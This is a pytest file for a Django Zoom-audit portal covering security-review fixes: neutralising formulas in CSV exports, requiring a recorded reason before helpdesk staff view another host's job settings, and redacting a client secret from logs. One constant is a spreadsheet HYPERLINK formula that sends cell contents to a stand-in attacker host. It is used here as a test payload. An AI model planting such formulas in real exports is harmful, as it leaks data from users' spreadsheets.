"""Findings of a security review, each pinned by a test: formulas in CSV exports are neutralised,
a job's page asks the helpdesk for a reason before showing someone else's settings, and the
configured log handler redacts secrets from messages and tracebacks alike."""

from __future__ import annotations

import csv
import io
import logging

import pytest
from django.urls import reverse

from audits.models import HardeningProfile, Job, JobKind, JobStatus
from audits.views.lookup import LOOKUPS_KEY
from portal.logging import RedactSecrets
from tests.people import make_person
from tests.test_reports import admin_of, client_for, report_url, synced

WAITING_ROOM = "meeting.waiting_room.on"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
CLIENT_SECRET = "zoom-client-secret-for-the-redaction-test"


# --- CSV exports ----------------------------------------------------------------------------
@pytest.fixture
def formula_host(db):
    host = make_person("+1-formula@utoronto.ca", first_name=FORMULA, last_name="")
    synced(host, 40, failing=[WAITING_ROOM])
    return host


def _rows(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


def test_host_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(formula_host):
    response = client_for(admin_of("Physics")).get(report_url("report_csv"))

    (row,) = [row for row in _rows(response) if row["name"].endswith(FORMULA)]
    assert row["name"] == "'" + FORMULA
    assert row["email"] == "'+1-formula@utoronto.ca"
    assert row["score"] == "40"  # numbers stay numbers


def test_action_plan_csv_neutralises_formulas_too(formula_host):
    response = client_for(admin_of("Physics")).get(report_url("report_action_plan"))

    rows = _rows(response)
    assert "'+1-formula@utoronto.ca" in {row["email"] for row in rows}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


# --- A job's page: someone else's settings only after a recorded reason ---------------------
@pytest.fixture
def job_of_host(db):
    host = make_person("alice@utoronto.ca", first_name="Alice", last_name="Aardvark")
    return Job.objects.create(
        kind=JobKind.HARDEN,
        host=host,
        profile=HardeningProfile.default(),
        requested_by=host,
        status=JobStatus.DONE,
        reason="the host's own words",
        outcome={
            "fields": {
                "in_meeting.waiting_room": {
                    "item": WAITING_ROOM,
                    "outcome": "applied",
                    "before": "before-value-xyz",
                    "after": True,
                    "now": True,
                }
            }
        },
    )


@pytest.mark.parametrize(
    "viewer",
    [
        lambda: make_person("help@utoronto.ca", department="IT", roles=["helpdesk"]),
        lambda: admin_of("Physics", "physics.admin@utoronto.ca"),
    ],
    ids=["helpdesk", "department admin"],
)
def test_job_page_of_someone_else_asks_for_a_reason_first(job_of_host, viewer):
    client = client_for(viewer())
    url = reverse("job_detail", args=[job_of_host.pk])

    before = client.get(url)
    assert "before-value-xyz" not in before.text
    assert "the host&#x27;s own words" not in before.text
    assert reverse("helpdesk_host", args=[job_of_host.host_id]) in before.text

    session = client.session
    session[LOOKUPS_KEY] = {str(job_of_host.host_id): 4_000_000_000}
    session.save()
    after = client.get(url)
    assert after.status_code == 200
    assert "before-value-xyz" in after.text


def test_host_reads_their_own_job_page_without_a_reason(job_of_host):
    response = client_for(job_of_host.host).get(reverse("job_detail", args=[job_of_host.pk]))

    assert response.status_code == 200
    assert "before-value-xyz" in response.text


# --- Logs: the configured handler redacts secrets -------------------------------------------
@pytest.fixture
def configured_handler(monkeypatch):
    """The handler settings.LOGGING put on the root logger, writing into a buffer."""
    monkeypatch.setenv("ZOOM_CLIENT_SECRET", CLIENT_SECRET)
    (handler,) = [
        h
        for h in logging.getLogger().handlers
        if any(isinstance(f, RedactSecrets) for f in h.filters)
    ]
    buffer = io.StringIO()
    previous = handler.setStream(buffer)
    yield buffer
    handler.setStream(previous)


def test_a_log_line_with_the_client_secret_comes_out_redacted(configured_handler):
    logging.getLogger("audits.zoom").warning("minting with %s failed", CLIENT_SECRET)

    written = configured_handler.getvalue()
    assert "minting with [redacted] failed" in written
    assert CLIENT_SECRET not in written


def test_a_traceback_with_the_client_secret_comes_out_redacted(configured_handler):
    try:
        raise ValueError(f"bad credentials {CLIENT_SECRET}")
    except ValueError:
        logging.getLogger("django.request").exception("Internal Server Error: /me/")

    written = configured_handler.getvalue()
    assert "Internal Server Error: /me/" in written
    assert "bad credentials [redacted]" in written
    assert CLIENT_SECRET not in written
